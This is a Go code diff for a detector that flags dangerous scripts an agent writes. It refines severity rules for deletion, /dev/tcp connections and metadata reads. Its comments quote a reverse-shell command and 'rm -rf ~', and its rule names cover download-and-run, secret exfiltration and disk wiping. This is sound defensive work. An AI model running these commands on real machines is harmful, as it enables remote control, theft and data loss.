@@ -16,9 +16,10 @@ import (
 
 // FileRun is the analysis of a file's text by what will run it (AnalyzeFile).
 type FileRun struct {
-	// Findings are what the text does when it runs. Uncertain findings are kept only for text
-	// that runs without being called (Unprompted): for an ordinary script a question adds
-	// nothing (an agent writing deploy.sh with `sudo apt-get install` is not asked about it).
+	// Findings are what the text does when it runs. Every finding is kept for text that runs
+	// without being called (Unprompted). Of an ordinary script only the severe ones are kept,
+	// as questions (Uncertain): an agent writing deploy.sh with `sudo apt-get install` is not
+	// asked about it; one writing run.sh with `rm -rf ~` is.
 	Findings []Finding
 	// Kind is what runs the text: shell, make, npm, docker, workflow, python, node, ruby,
 	// perl, notebook; "" when nothing this package knows runs it (nothing was analysed).
@@ -51,10 +52,17 @@ func AnalyzeFile(name, text string) FileRun {
 	var found []Finding
 	// judge keeps what a careful reviewer acts on at write time: of text that runs without
 	// being called, every finding (certain ones refuse, uncertain ones ask); of an ordinary
-	// script, only the certain findings that harm any machine it runs on (severe).
+	// script, only the certain findings that harm any machine it runs on (severe), as
+	// questions: the script does nothing until a later call runs it, and real scripts that
+	// look like attacks exist (the test splits' hard negatives: refusing them denied one more
+	// benign script on two of four splits).
 	judge := func(r Result, unprompted bool) {
 		for _, f := range r.Findings {
-			if unprompted || !f.Uncertain && severe(f) {
+			switch {
+			case unprompted:
+				found = append(found, f)
+			case !f.Uncertain && severe(f):
+				f.Uncertain = true
 				found = append(found, f)
 			}
 		}
@@ -354,23 +362,36 @@ func workflowRuns(text string) []string {
 // severeRules are the findings that refuse an ordinary script at write time: they harm any
 // machine the script runs on, whoever calls it. What a system's own maintenance script does
 // (deleting under /var/lib, chmod in /etc, setenforce 0: real Debian maintainer scripts and
-// project test scripts do) is for whoever runs the script to judge, and is not asked about.
+// project test scripts do) is for whoever runs the script to judge, and is not asked about;
+// so is a connection through /dev/tcp to a host the script takes as a parameter or to this
+// machine, which a script's port check is (wait-for-it.sh's `echo > /dev/tcp/$HOST/$PORT`;
+// to a host the script names, a reverse shell's `bash -i >& /dev/tcp/IP/PORT`, it refuses:
+// rawHost), and a read of the cloud's instance metadata, which a script run on the instance
+// does to learn its region or id.
 var severeRules = map[string]bool{
 	"exec/download_run": true, "exec/pipe_to_shell": true, "exec/decode_run": true, "exec/reverse_shell": true,
-	"exfil/env_to_network": true, "exfil/secret_file": true, "exfil/secret_var": true, "exfil/dev_tcp": true,
+	"exfil/env_to_network": true, "exfil/secret_file": true, "exfil/secret_var": true,
 	"exfil/reverse_shell": true, "exfil/pipe_to_network": true, "exfil/paste_host": true, "exfil/code_env": true,
-	"exfil/code_file": true, "exfil/key_file": true, "exfil/metadata": true,
-	"destroy/disk": true, "destroy/raw_device": true, "destroy/code_delete": true, "priv/preload": true,
+	"exfil/code_file": true, "exfil/key_file": true,
+	"destroy/disk": true, "destroy/raw_device": true, "priv/preload": true,
 }
 
 // severe reports whether a certain finding refuses an ordinary script (severeRules), or is a
-// delete of the root, a home folder, a top system folder or a home's keys (destroy/rm_outside
-// naming one: wipesTop).
+// delete of the root, a home folder, a top system folder or a home's keys (rm_outside,
+// rm_system or code's code_delete naming one: wipesTop). A delete elsewhere outside the project
+// (`rm -rf /var/lib/containerd`, `shutil.rmtree(os.path.expanduser('~/.cache/x'))`) is what a
+// maintenance or clean-up script is for.
 func severe(f Finding) bool {
 	if severeRules[f.Rule] {
 		return true
 	}
-	return (f.Rule == "destroy/rm_outside" || f.Rule == "destroy/rm_system") && wipesTop(f.Match)
+	switch f.Rule {
+	case "destroy/rm_outside", "destroy/rm_system", "destroy/code_delete":
+		return wipesTop(f.Match)
+	case "exfil/dev_tcp":
+		return rawHost(f.Match)
+	}
+	return false
 }
 
 // topTargets are the folders whose deletion no script's purpose explains.
@@ -392,4 +413,18 @@ func wipesTop(match string) bool {
 		}
 	}
 	return false
+}
+
+// rawHost reports whether a /dev/tcp or /dev/udp path (a Finding's Match) names its host: not
+// a variable and not this machine (localhost, 127.x, ::1).
+func rawHost(match string) bool {
+	_, rest, ok := strings.Cut(match, "/dev/tcp/")
+	if !ok {
+		if _, rest, ok = strings.Cut(match, "/dev/udp/"); !ok {
+			return false
+		}
+	}
+	host, _, _ := strings.Cut(rest, "/")
+	return host != "" && !strings.Contains(host, "$") && host != "localhost" && host != "::1" &&
+		!strings.HasPrefix(host, "127.")
 }
